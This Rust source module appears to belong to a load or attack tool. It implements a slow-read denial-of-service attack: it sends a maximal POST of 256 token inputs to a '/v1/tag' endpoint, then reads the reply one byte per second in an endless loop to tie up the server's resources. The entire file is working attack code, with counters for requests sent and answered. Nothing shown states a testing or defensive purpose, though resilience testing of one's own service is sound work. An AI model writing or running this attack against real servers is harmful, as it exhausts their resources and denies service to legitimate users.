//! Long answers, read a byte a second.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::interval;

use super::{Attack, Ended, WORDS};
use crate::http::request;

/// Texts of a request: as many as a server takes unless it is told otherwise.
const TEXTS: usize = 256;

pub(super) async fn live(attack: &Attack) -> Ended {
    let mut stream = attack.connect_small().await?;
    let inputs = vec![serde_json::json!({ "tokens": WORDS }); TEXTS];
    let body = serde_json::json!({ "inputs": inputs }).to_string();
    stream.write_all(&request(attack.route, "POST /v1/tag", "", &body)).await?;
    attack.tally.sent();
    let mut seconds = interval(Duration::from_secs(1));
    loop {
        seconds.tick().await;
        stream.read_u8().await?;
        attack.tally.answered();
    }
}
